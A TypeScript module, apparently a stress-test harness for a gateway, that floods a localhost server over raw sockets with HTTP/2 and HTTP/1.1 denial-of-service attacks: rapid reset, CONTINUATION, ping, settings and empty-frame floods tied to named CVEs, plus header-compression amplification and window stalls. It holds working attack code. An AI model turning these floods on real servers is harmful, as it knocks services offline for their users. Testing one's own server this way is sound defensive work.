/** Clients that send what costs a server more than them, on as many connections as they are told, each opened anew when it is cut. */

import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import {
  field,
  flags,
  frameOf,
  frameTypes,
  headOf,
  keptField,
  lastKeptField,
  preface,
  reset,
  settings,
  settingsTaken,
  windowUpdate,
} from "../../http/http2-frames.ts";

export const floodKinds = [
  "resets",
  "provoked resets",
  "HTTP/1.1 resets",
  "large heads",
  "large heads, held",
  "streams",
  "uploads, held",
  "no window",
  "unread",
  "pings",
  "settings",
  "empty data",
  "continuations",
] as const;
export type FloodKind = (typeof floodKinds)[number];

export interface FloodPlan {
  readonly kind: FloodKind;
  /** Of the gateway's REST front. */
  readonly port: number;
  /** At any time. */
  readonly connections: number;
}

export interface FloodState {
  /** How many were opened, those of the beginning included. */
  readonly opened: number;
  readonly sentBytes: number;
  /** Streams, frames or requests. */
  readonly sent: number;
}

export class Flood {
  readonly #plan: FloodPlan;
  readonly #open = new Set<FloodConnection>();
  #opened = 0;
  #sentBytes = 0;
  #sent = 0;
  #isOver = false;

  constructor(plan: FloodPlan) {
    this.#plan = plan;
  }

  begin(): FloodState {
    for (let index = 0; index < this.#plan.connections; index += 1) this.#connect();
    return this.#state();
  }

  end(): FloodState {
    this.#isOver = true;
    for (const connection of this.#open) connection.socket.destroy();
    return this.#state();
  }

  #connect(): void {
    const connection = new FloodConnection(this.#plan.port, (bytes, units) => {
      this.#sentBytes += bytes;
      this.#sent += units;
    });
    this.#open.add(connection);
    this.#opened += 1;
    connection.socket.once("close", () => {
      this.#open.delete(connection);
      if (!this.#isOver) setImmediate(() => this.#connect());
    });
    void floods[this.#plan.kind](connection);
  }

  #state(): FloodState {
    return { opened: this.#opened, sentBytes: this.#sentBytes, sent: this.#sent };
  }
}

class FloodConnection {
  readonly socket: Socket;
  /** Streams that the server has ended or reset. */
  endedStreams = 0;
  readonly #count: (bytes: number, units: number) => void;
  #nextStream = 1;
  #wake: () => void = () => {};
  /** What has come of a frame's head. */
  #head: Buffer = Buffer.alloc(0);
  /** What is to come of its payload. */
  #left = 0;

  constructor(port: number, count: (bytes: number, units: number) => void) {
    this.#count = count;
    this.socket = connect({ host: "127.0.0.1", port, noDelay: true });
    this.socket.on("error", () => {}); // cut, which is what it is there for
    for (const event of ["close", "drain", "connect"]) this.socket.on(event, () => this.#wake());
  }

  get isOpen(): boolean {
    return !this.socket.destroyed;
  }

  /** Its streams, as far as the numbers go. */
  stream(): number {
    const stream = this.#nextStream;
    this.#nextStream += 2;
    return stream;
  }

  /** Resolves when there is room for more. */
  async write(bytes: Uint8Array, units = 0): Promise<void> {
    if (!this.isOpen) return;
    this.#count(bytes.length, units);
    this.socket.write(bytes);
    while (this.isOpen && this.socket.writableNeedDrain) await this.#woken();
  }

  /** Reads frames, of which it counts those that end a stream. */
  readFrames(): void {
    this.socket.on("data", (chunk: Buffer) => this.#read(chunk));
  }

  async untilEnded(streams: number): Promise<void> {
    while (this.isOpen && this.endedStreams < streams) await this.#woken();
  }

  async untilConnected(): Promise<void> {
    while (this.isOpen && this.socket.connecting) await this.#woken();
  }

  #woken(): Promise<void> {
    return new Promise((resolve) => {
      this.#wake = resolve;
    });
  }

  #read(chunk: Buffer): void {
    const bytes = this.#head.length === 0 ? chunk : Buffer.concat([this.#head, chunk]);
    let at = Math.min(this.#left, bytes.length);
    this.#left -= at;
    for (; at + 9 <= bytes.length; ) {
      const length = bytes.readUIntBE(at, 3);
      const [type, flagged] = [bytes[at + 3], bytes[at + 4] ?? 0];
      const hasEnd = type === frameTypes.data || type === frameTypes.headers;
      if (type === frameTypes.reset || (hasEnd && (flagged & flags.endStream) !== 0)) this.endedStreams += 1;
      const end = at + 9 + length;
      this.#left = Math.max(0, end - bytes.length);
      at = Math.min(end, bytes.length);
    }
    this.#head = bytes.subarray(at);
    this.#wake();
  }
}

const batch = 100;
const most = 0x7fffffff;
/** As large as the gateway's table keeps them: 4,096 bytes with the 32 that each costs beside its name and value (RFC 7541 §4.1). */
const large = keptField("cookie", "x".repeat(4_000));
/** What they come to is just below the most that a head may have. */
const references = 15;

const body = headOf("POST", "/scanHandlerBody");
const upload = Buffer.concat([headOf("POST", "/v2/scan"), field("content-type", "multipart/form-data; boundary=x")]);
const livez = headOf("GET", "/livez");

function head(stream: number, block: Uint8Array, isWhole: boolean): Buffer {
  return frameOf(frameTypes.headers, flags.endHeaders | (isWhole ? flags.endStream : flags.none), stream, block);
}

async function begin(connection: FloodConnection, window = most, isRead = true): Promise<void> {
  if (isRead) connection.readFrames();
  else connection.socket.pause();
  await connection.write(Buffer.concat([preface, settings(window), settingsTaken, windowUpdate(0, most - 65_535)]));
}

/** Again and again, as fast as they are taken. */
async function endlessly(connection: FloodConnection, pieces: () => readonly Buffer[]): Promise<void> {
  while (connection.isOpen) {
    await connection.write(Buffer.concat(Array.from({ length: batch }, pieces).flat()), batch);
  }
}

/** So many at once, and the next when they have been answered. */
async function inRounds(connection: FloodConnection, piece: (stream: number) => Buffer): Promise<void> {
  for (let sent = connection.endedStreams + batch; connection.isOpen; sent += batch) {
    await connection.write(Buffer.concat(Array.from({ length: batch }, () => piece(connection.stream()))), batch);
    await connection.untilEnded(sent);
  }
}

const cancel = 8;

const floods: Readonly<Record<FloodKind, (connection: FloodConnection) => Promise<void>>> = {
  /** CVE-2023-44487 */
  async resets(connection) {
    await begin(connection);
    await endlessly(connection, () => {
      const stream = connection.stream();
      return [head(stream, body, false), reset(stream, cancel)];
    });
  },
  /** CVE-2025-8671: the server is brought to reset them, by a window that grows by nothing. */
  async "provoked resets"(connection) {
    await begin(connection);
    await endlessly(connection, () => {
      const stream = connection.stream();
      return [head(stream, body, false), windowUpdate(stream, 0)];
    });
  },
  async "HTTP/1.1 resets"(connection) {
    await connection.untilConnected();
    const text = "POST /scanHandlerBody HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nx";
    await connection.write(Buffer.from(text), 1);
    await delay(10); // sooner the server's system would forget what it has not read yet
    if (connection.isOpen) connection.socket.resetAndDestroy();
  },
  async "large heads"(connection) {
    await begin(connection);
    await connection.write(head(connection.stream(), Buffer.concat([livez, large]), true), 1);
    await connection.untilEnded(1);
    const block = Buffer.concat([livez, ...Array.from({ length: references }, () => lastKeptField)]);
    await inRounds(connection, (stream) => head(stream, block, true));
  },
  async "large heads, held"(connection) {
    await begin(connection);
    await connection.write(head(connection.stream(), Buffer.concat([livez, large]), true), 1);
    await connection.untilEnded(1);
    const block = Buffer.concat([upload, ...Array.from({ length: references }, () => lastKeptField)]);
    await inRounds(connection, (stream) => head(stream, block, false));
  },
  async streams(connection) {
    await begin(connection);
    await inRounds(connection, (stream) => head(stream, livez, true));
  },
  /** Of each as much of its body as may be sent ahead. */
  async "uploads, held"(connection) {
    await begin(connection);
    const form = '--x\r\ncontent-disposition: form-data; name="file"; filename="a"\r\n\r\n';
    const ahead = Buffer.from(form.padEnd(16_000, "x"));
    await inRounds(connection, (stream) =>
      Buffer.concat([head(stream, upload, false), frameOf(frameTypes.data, flags.none, stream, ahead)]),
    );
  },
  async "no window"(connection) {
    await begin(connection, 0);
    const block = headOf("GET", "/openapi.json");
    await inRounds(connection, (stream) => head(stream, block, true));
  },
  /** Whose answers may come and are left to the kernel. */
  async unread(connection) {
    await begin(connection, most, false);
    const block = headOf("GET", "/openapi.json");
    await endlessly(connection, () => [head(connection.stream(), block, true)]);
  },
  /** CVE-2019-9512 */
  async pings(connection) {
    await begin(connection);
    const ping = frameOf(frameTypes.ping, flags.none, 0, Buffer.alloc(8));
    await endlessly(connection, () => [ping]);
  },
  /** CVE-2019-9515 */
  async settings(connection) {
    await begin(connection);
    const frame = settings(65_535);
    await endlessly(connection, () => [frame]);
  },
  /** CVE-2019-9518 */
  async "empty data"(connection) {
    await begin(connection);
    const stream = connection.stream();
    await connection.write(head(stream, upload, false));
    const empty = frameOf(frameTypes.data, flags.none, stream, Buffer.alloc(0));
    await endlessly(connection, () => [empty]);
  },
  /** CVE-2024-27983 */
  async continuations(connection) {
    await begin(connection);
    const stream = connection.stream();
    await connection.write(frameOf(frameTypes.headers, flags.none, stream, livez));
    const more = frameOf(frameTypes.continuation, flags.none, stream, field("x", "y"));
    await endlessly(connection, () => [more]);
  },
};
